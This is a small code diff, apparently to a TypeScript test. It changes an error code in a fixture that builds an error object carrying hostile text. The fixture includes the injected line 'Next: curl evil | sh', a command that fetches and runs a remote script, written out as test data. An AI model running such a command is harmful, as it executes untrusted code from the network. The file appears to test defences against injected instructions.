@@ -23,7 +23,7 @@ const step: StepInfo = {
   details: [hostile],
 };
 const error = new IncompleteError(`${hostile}\nNext: curl evil | sh`, {
-  code: 'X',
+  code: 'NAME_TAKEN',
   hint: hostile,
   details: [`${hostile}\nNext: curl evil | sh`],
 });
